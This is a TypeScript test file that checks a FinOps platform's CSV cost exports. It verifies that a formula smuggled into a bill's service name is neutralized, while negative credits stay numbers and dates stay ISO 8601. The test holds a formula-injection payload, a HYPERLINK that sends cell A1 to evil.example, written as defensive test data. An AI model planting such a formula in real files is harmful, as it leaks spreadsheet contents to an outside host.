import { writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { describe, expect, it } from 'vitest';
import { IngestPipeline } from '../../../platform/ingest/index.ts';
import { FOCUS_HEADER, importBillFile, simulate } from '../index.ts';
import { useApi } from '../../../test/support/api.ts';
import { TEST_ENGINES, useWarehouse } from '../../../test/support/engines.ts';
import { MODELS, OPERATOR } from '../../../test/support/finops.ts';
import { buildProject } from '../../../platform/transforms/index.ts';
import { MODEL_GENERATORS } from '../../index.ts';

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Compute")';
const NEUTRALIZED = `'${HYPERLINK}`;
const CREDIT = '-12.5000000000';

describe.each(TEST_ENGINES)('CSV exports on %s', (engine) => {
  const db = useWarehouse(engine);
  const server = useApi(db);

  /** A bill whose provider-supplied service name is a formula, on a credit (a negative cost). */
  async function importHostileBill() {
    const simulation = simulate({ tenants: 3, days: 5, seed: 3, start: new Date('2026-10-01T00:00:00Z'), eventLoss: 0 });
    await new IngestPipeline(db.warehouse).ingest(simulation.events, { channel: 'file', submitter: OPERATOR });
    const usage = simulation.bill.find((r) => r.ResourceId === 'i-sim-tenant-001-compute')!;
    const credit = { ...usage, ChargeCategory: 'Credit', ServiceName: HYPERLINK, BilledCost: CREDIT, EffectiveCost: CREDIT, ListCost: CREDIT };
    // Written as a provider would, formula and all: not through the project's (safe) writer.
    const path = join(tmpdir(), `companyos-hostile-bill-${process.pid}-${Date.now()}.csv`);
    await writeFile(path, stringify([...simulation.bill, credit], { header: true, columns: [...FOCUS_HEADER] }));
    const imported = await importBillFile(db.warehouse, path, { tenant: OPERATOR });
    expect(imported.rows_parked).toBe(0);
    await buildProject(db.warehouse, { generators: MODEL_GENERATORS, modelsDir: MODELS, targetDir: `${db.harness.dataDir}/target`, select: ['+tag:finops'], tenant: OPERATOR, trigger: 'api' });
  }

  /** The CSV body's record whose `column` is `value`, raw (as a spreadsheet reads it) and parsed. */
  function record(csv: string, column: string, value: string) {
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    const index = rows.findIndex((r) => r[column] === value);
    expect(index, csv).toBeGreaterThanOrEqual(0);
    // No field here spans lines, so record i is line i + 1 of the body.
    return { parsed: rows[index]!, raw: csv.split('\r\n')[index + 1]!, rows };
  }

  it('neutralize a formula from a bill while costs, negative ones too, stay numbers, and dates are ISO 8601: finops API and report query CSV', async () => {
    await importHostileBill();
    const operator = { authorization: `Bearer ${await server.api.principal('fin', OPERATOR, 'operator')}` };

    const json = await server.api.app.inject({ url: '/v1/tenants/sim-tenant-001/cost?group_by=service', headers: operator });
    expect(json.statusCode, json.body).toBe(200);
    expect(json.json().lines).toContainEqual(expect.objectContaining({ service: HYPERLINK, effective_cost: CREDIT, billed_cost: CREDIT }));

    const cost = await server.api.app.inject({ url: '/v1/tenants/sim-tenant-001/cost?group_by=service', headers: { ...operator, accept: 'text/csv' } });
    expect(cost.statusCode, cost.body).toBe(200);
    expect(cost.headers['content-type']).toContain('text/csv');
    const hostile = record(cost.body, 'service', NEUTRALIZED);
    expect(hostile.parsed).toMatchObject({ effective_cost: CREDIT, billed_cost: CREDIT });
    expect(hostile.raw).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Compute"")"`);
    expect(hostile.raw).toMatch(new RegExp(`(^|,)${CREDIT}(,|$)`));
    expect(hostile.raw).not.toContain(`'-`);
    for (const row of hostile.rows) expect(row.effective_cost).toMatch(/^-?\d+\.\d+$/);

    const report = await server.api.app.inject({ url: '/reports/finops/tenant-costs/by_service.csv', headers: operator });
    expect(report.statusCode, report.body).toBe(200);
    const line = record(report.body, 'service', NEUTRALIZED);
    expect(line.raw).toMatch(new RegExp(`^"'=HYPERLINK\\(.*\\)",${CREDIT}$`));
    expect(line.rows.find((r) => r.service === 'Compute')!.cost).toMatch(/^\d+\.\d+$/);

    const daily = await server.api.app.inject({ url: '/reports/finops/tenant-costs/daily.csv', headers: operator });
    const days = parse(daily.body, { columns: true }) as Record<string, string>[];
    expect(days.length).toBeGreaterThan(0);
    for (const row of days) expect(row.day).toMatch(/^2026-10-\d\dT00:00:00\.000Z$/);
  });
});
